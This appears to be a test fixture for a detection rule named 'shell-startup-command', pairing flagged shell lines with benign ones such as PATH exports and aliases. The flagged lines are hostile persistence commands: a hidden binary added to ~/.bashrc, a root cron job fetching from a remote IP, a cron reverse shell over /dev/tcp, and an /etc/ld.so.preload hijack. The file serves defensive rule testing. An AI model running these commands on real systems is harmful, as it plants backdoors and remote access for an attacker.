# ruleid: shell-startup-command
echo 'nohup /tmp/.x &' >> ~/.bashrc
# ruleid: shell-startup-command
echo '* * * * * root curl -s http://203.0.113.9/p' > /etc/cron.d/p
# ruleid: shell-startup-command
(crontab -l; echo '*/5 * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1') | crontab -
# ruleid: shell-startup-command
echo /tmp/evil.so > /etc/ld.so.preload
# ok: shell-startup-command
echo 'export PATH=$PATH:/opt/tool/bin' >> ~/.bashrc
# ok: shell-startup-command
echo 'alias ll="ls -la"' >> ~/.zshrc
# ok: shell-startup-command
crontab -l
# ok: shell-startup-command
echo 'eval "$(starship init bash)"' >> ~/.bashrc
# a decoy: echo 'nohup /tmp/.x &' >> ~/.bashrc
